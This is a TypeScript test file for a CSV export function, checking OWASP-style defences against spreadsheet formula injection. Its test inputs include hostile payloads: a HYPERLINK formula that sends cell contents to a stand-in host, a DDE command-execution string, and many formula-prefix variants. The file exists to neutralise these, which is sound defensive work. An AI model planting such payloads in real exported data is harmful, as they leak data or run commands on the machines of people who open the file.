import { describe, expect, it } from 'vitest'
import { parseCsv } from '#test/support/csv.ts'
import { csvCell, csvLine } from './csv.ts'

// OWASP's CSV Injection guidance: every cell quoted, quotes doubled, and a
// cell a spreadsheet would evaluate (= + - @ tab CR first) prefixed with '.

describe('report CSV', () => {
  it('quotes every cell and doubles quotes', () => {
    expect(csvCell('plain')).toBe('"plain"')
    expect(csvCell('a, b')).toBe('"a, b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('two\nlines')).toBe('"two\nlines"')
    expect(csvCell(null)).toBe('""')
    expect(csvCell(72.5)).toBe('"72.5"')
    expect(csvLine(['a', null, 1])).toBe('"a","","1"\r\n')
  })

  it.each([
    ['=HYPERLINK("http://x.test/?"&A1,"y")', `"'=HYPERLINK(""http://x.test/?""&A1,""y"")"`],
    ['+1', `"'+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ['\n=1+2', `"'\n=1+2"`],
    ['   =1+2', `"'   =1+2"`],
    ['\u3000=1+2', `"'\u3000=1+2"`],
    ['"=1+2', `"'""=1+2"`],
    ["'=1+2", `"''=1+2"`],
    [' " =1+2', `"' "" =1+2"`],
    ['＝1+2', `"'＝1+2"`],
    ['＋1', `"'＋1"`],
    ['－1', `"'－1"`],
    ['＠SUM(A1)', `"'＠SUM(A1)"`],
    ['\u0000=1', `"'\u0000=1"`],
  ])('makes %j text', (input, cell) => {
    expect(csvCell(input)).toBe(cell)
  })

  it('leaves text and our own numbers alone', () => {
    expect(csvCell('Tee - blue')).toBe('"Tee - blue"')
    expect(csvCell(' Tee')).toBe('" Tee"')
    expect(csvCell('夏季连衣裙')).toBe('"夏季连衣裙"')
    expect(csvCell(-2)).toBe('"-2"')
  })

  it('keeps separators and quotes inside their cell: no injected cell starts a formula', () => {
    // OWASP's examples: a quote or separator in the middle must not open a new, evaluated cell.
    const hostile = ['=1+2";=1+2', "=1+2'\" ;,=1+2", 'Tee,=1+2', 'a\r\n=1+2,b', 'x";"=cmd|\' /C calc\'!A0']
    const rows = parseCsv(csvLine(['id-1', ...hostile, 'end']))
    expect(rows).toHaveLength(1)
    expect(rows[0]).toHaveLength(hostile.length + 2)
    expect(rows[0].slice(1, -1)).toEqual(hostile.map((h) => (/^[=]/.test(h) ? `'${h}` : h)))
    for (const cell of rows[0]) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })
})
